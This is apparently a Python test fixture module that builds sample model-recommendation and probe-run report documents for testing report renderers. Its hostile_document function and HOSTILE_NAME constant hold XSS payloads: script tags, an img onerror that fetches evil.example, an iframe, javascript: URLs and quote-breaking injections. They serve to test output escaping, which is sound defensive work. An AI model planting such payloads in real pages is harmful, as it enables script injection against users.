"""Hand-made engine documents (the DESIGN.md recommend shape plus provenance) for report tests.

The figures are test data, labelled with the fixture source URL; they stand in for the ranking
engine's output so the renderers are tested against the document shape, not against the engine.
"""

from __future__ import annotations

import copy

FIXTURE_SOURCE = "https://example.org/fixture"
HOSTILE_NAME = 'cards:<script>window.__pwned=1;console.error("pwned")</script><img src=x onerror="fetch(\'http://evil.example/\')">'


def _candidate(
    rank, model_id, score, pareto, box_map, latency, lo, hi, size_mb, params, gmacs, licence, explanation, warnings=()
):
    return {
        "rank": rank,
        "id": model_id,
        "score": score,
        "pareto": pareto,
        "accuracy": {"metric": "box_map", "dataset": "coco-val2017", "value": box_map, "kind": "reported"},
        "latency_ms": latency,
        "latency_kind": "estimated",
        "latency_range_ms": [lo, hi],
        "size_mb": size_mb,
        "params": params,
        "gmacs": gmacs,
        "license": licence,
        "explanation": explanation,
        "warnings": list(warnings),
    }


def recommend_document() -> dict:
    """Detection on an edge device: six candidates, one unrated-on-latency, with provenance."""
    candidates = [
        _candidate(
            1,
            "cards:rtdetr-r18",
            0.812,
            True,
            46.5,
            61.0,
            45.0,
            80.0,
            80.0,
            20_000_000,
            30.0,
            "apache-2.0",
            "Best accuracy under the 100 ms budget; permissive licence.",
        ),
        _candidate(
            2,
            "cards:yolov8s",
            0.774,
            True,
            44.9,
            38.5,
            29.0,
            51.0,
            44.8,
            11_200_000,
            14.3,
            "agpl-3.0",
            "Close to the top pick at two thirds of its latency.",
            ["AGPL-3.0: copyleft, check before shipping."],
        ),
        _candidate(
            3,
            "cards:yolov8n",
            0.701,
            True,
            37.3,
            14.2,
            10.5,
            19.0,
            12.8,
            3_200_000,
            4.35,
            "agpl-3.0",
            "Fastest rated candidate.",
            ["AGPL-3.0: copyleft, check before shipping."],
        ),
        _candidate(
            4,
            "cards:efficientdet-d0",
            0.655,
            False,
            34.6,
            22.0,
            16.0,
            30.0,
            15.6,
            3_900_000,
            2.5,
            "apache-2.0",
            "Small and permissive, but yolov8n is both faster and more accurate.",
        ),
        _candidate(
            5,
            "cards:detr-resnet-50",
            0.402,
            False,
            42.0,
            210.0,
            150.0,
            290.0,
            164.0,
            41_000_000,
            86.0,
            "apache-2.0",
            "Accurate but over the latency budget.",
            ["Estimated latency exceeds --max-latency-ms 100."],
        ),
        _candidate(
            6,
            "cards:ssdlite-mobilenet",
            0.380,
            True,
            21.3,
            6.1,
            4.4,
            8.3,
            13.6,
            3_400_000,
            0.6,
            "bsd-3-clause",
            "Fastest overall; low accuracy.",
        ),
    ]
    provenance = []
    for c in candidates:
        provenance.append(
            {
                "id": c["id"],
                "figure": "accuracy",
                "value": c["accuracy"]["value"],
                "kind": "reported",
                "source": FIXTURE_SOURCE,
                "obtained_at": "2026-11-20",
                "device": None,
            }
        )
        provenance.append(
            {
                "id": c["id"],
                "figure": "latency_ms",
                "value": c["latency_ms"],
                "kind": "estimated",
                "source": "advisor.latency roofline estimate (fixture)",
                "obtained_at": None,
                "device": "jetson-orin-nano",
            }
        )
    return {
        "kind": "recommend",
        "generated_at": "2026-11-25T03:00:00Z",
        "query": {
            "task": "object-detection",
            "target": "edge",
            "domain": None,
            "max_latency_ms": 100.0,
            "license": "any",
            "prefer": "balanced",
            "top": 10,
        },
        "target": {
            "device": "jetson-orin-nano",
            "batch_size": 1,
            "precision": "fp32",
            "budget": {"max_latency_ms": 100.0, "max_size_mb": None, "max_params": None, "max_memory_mb": None},
        },
        "candidates": candidates,
        "provenance": provenance,
        "environment": {
            "model_advisor": "0.1.0",
            "python": "CPython 3.11.2",
            "platform": "Linux-fixture",
            "produced_on": "fixture CPU (2 cores)",
            "target_device": "jetson-orin-nano",
            "catalog_snapshot_sha256": "0" * 64,
            "catalog_models": 222,
        },
    }


def hostile_document() -> dict:
    """The recommend document with attacker-controlled catalog text in every string field."""
    document = copy.deepcopy(recommend_document())
    first = document["candidates"][0]
    first["id"] = HOSTILE_NAME
    first["license"] = "<b>mit</b>"
    first["explanation"] = (
        "Great | model <iframe src=http://evil.example/></iframe> *bold* `code` [link](javascript:alert(1))"
    )
    first["warnings"] = ["<style>body{display:none}</style>", "line one\nline two | pipe"]
    first["accuracy"]["kind"] = '"><script>console.error(1)</script>'
    document["provenance"][0].update(id=HOSTILE_NAME, source="javascript:console.error('x')")
    document["provenance"][1].update(source='http://evil.example/"><script>console.error(2)</script>')
    return document


def probe_document() -> dict:
    """A probe-run report: the compare document for the probed models plus the run and per-class metrics."""
    document = recommend_document()
    document["kind"] = "probe-run"
    document["query"] = {"models": [c["id"] for c in document["candidates"][:3]], "run_id": "run-0001"}
    document["candidates"] = document["candidates"][:3]
    document["probe"] = {
        "run": {
            "id": "run-0001",
            "task": "image-classification",
            "dataset_path": "/data/parts",
            "dataset_fingerprint": "abc123",
            "mode": "linear",
            "device": "cpu",
            "status": "finished",
            "started_at": "2026-11-24T10:00:00",
            "finished_at": "2026-11-24T10:05:00",
        },
        "results": [
            {
                "id": "cards:rtdetr-r18",
                "mode": "linear",
                "status": "ok",
                "score": 0.91,
                "duration_s": 40.2,
                "error": None,
                "metrics": {
                    "accuracy": 0.91,
                    "macro_f1": 0.9,
                    "per_class": {
                        "bolt": {"precision": 0.95, "recall": 0.9, "f1": 0.92, "support": 20},
                        "nut": {"precision": 0.88, "recall": 0.93, "f1": 0.9, "support": 15},
                    },
                },
            },
            {
                "id": "cards:yolov8s",
                "mode": "linear",
                "status": "ok",
                "score": 0.85,
                "duration_s": 31.0,
                "error": None,
                "metrics": {"accuracy": 0.85, "macro_f1": 0.84, "per_class_recall": {"bolt": 0.8, "nut": 0.9}},
            },
            {
                "id": "cards:unplaced",
                "mode": "linear",
                "status": "failed",
                "score": None,
                "duration_s": 2.0,
                "error": "weights not in the local cache",
                "metrics": None,
            },
        ],
    }
    return document
